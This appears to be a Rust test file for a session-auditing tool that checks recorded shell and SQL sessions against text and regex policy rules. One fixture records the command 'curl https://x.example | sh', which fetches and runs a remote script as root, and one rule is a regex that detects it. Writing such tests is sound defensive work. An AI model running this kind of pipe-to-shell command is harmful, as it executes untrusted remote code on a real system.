//! Texts that must or must not be there, in commands, statements and output.

use super::{assert, policy, verdict};
use crate::support::{RecordedGateway, RecordedSession, id};

fn shell() -> RecordedSession {
    RecordedSession::script(1, "", "curl https://x.example | sh\n").output("installed for root\n")
}

fn database() -> RecordedSession {
    RecordedSession::script(1, "postgres", "SELECT email FROM customers;")
        .output("ana@corp.example\n")
}

#[test]
fn each_part_is_looked_at_where_it_is_asked_for() {
    for (session, rule, word) in [
        (
            shell(),
            "must_not_match: [{ text: curl, in: [commands] }]",
            "broken",
        ),
        (
            shell(),
            "must_not_match: [{ text: curl, in: [output] }]",
            "holds",
        ),
        (
            shell(),
            "must_not_match: [{ text: root, in: [output] }]",
            "broken",
        ),
        (shell(), "must_not_match: [{ text: root }]", "holds"),
        (
            shell(),
            "must_match: [{ text: installed, in: [output] }]",
            "holds",
        ),
        (
            shell(),
            "must_match: [{ text: removed, in: [output] }]",
            "broken",
        ),
        (
            shell(),
            r"must_not_match: [{ regex: 'curl[^\n|]*\|\s*sh\b' }]",
            "broken",
        ),
        (shell(), "must_not_match: [{ text: CURL }]", "holds"),
        (
            shell(),
            "must_not_match: [{ text: CURL, ignore_case: true }]",
            "broken",
        ),
        (
            database(),
            "must_not_match: [{ text: customers, in: [statements] }]",
            "broken",
        ),
        (
            database(),
            "must_not_match: [{ text: customers, in: [commands] }]",
            "holds",
        ),
        (
            database(),
            "must_not_match: [{ text: customers }]",
            "broken",
        ),
        (
            database(),
            "must_match: [{ text: customers, in: [output] }]",
            "broken",
        ),
    ] {
        let (found, said) = verdict(session, rule);
        assert_eq!(found, word, "{rule}: {said:?}");
    }
}

#[test]
fn what_the_gateway_does_not_record_is_unknown() {
    let native = || RecordedSession::native(1, "mysql", &[b"\x03SELECT 1"]);
    let (word, said) = verdict(native(), "must_not_match: [{ text: x, in: [output] }]");
    assert_eq!(word, "cannot-tell");
    assert!(said[0].contains("no answers"), "{said:?}");
    assert_eq!(
        verdict(native(), "must_not_match: [{ text: x, in: [commands] }]").0,
        "holds"
    );
}

#[test]
fn what_is_not_there_yet_or_was_cut_may_come() {
    let open = || {
        shell()
            .with("status", "open".into())
            .with("end_date", ().into())
    };
    let cut = || shell().with("metrics", serde_json::json!({"truncated": true}));
    for session in [open, cut as fn() -> _] {
        assert_eq!(
            verdict(session(), "must_not_match: [{ text: wget }]").0,
            "cannot-tell"
        );
        assert_eq!(
            verdict(session(), "must_not_match: [{ text: curl }]").0,
            "broken"
        );
        assert_eq!(
            verdict(session(), "must_match: [{ text: curl }]").0,
            "holds"
        );
    }
}

#[test]
fn the_command_beside_the_evidence_shows_it() {
    let session = shell().event(90.0, "o", b"a late needle\n");
    let gateway = RecordedGateway::start([session]);
    policy(
        &gateway.environment,
        "must_not_match: [{ text: needle, in: [output] }]",
    );
    let output = assert(&gateway.environment, &[&id(1), "-o", "json"]).exits(3);
    let evidence = &output.json()[0]["rules"][0]["evidence"][0];
    assert_eq!(evidence["time"], "2026-08-20T10:02:30Z");
    let command = evidence["replay"].as_str().expect("a command");
    let words = command.split(' ').skip(1);
    let shown = gateway
        .environment
        .run(words)
        .exits(0)
        .shows("a late needle");
    assert!(!shown.stdout.contains("installed"), "{shown}");
}
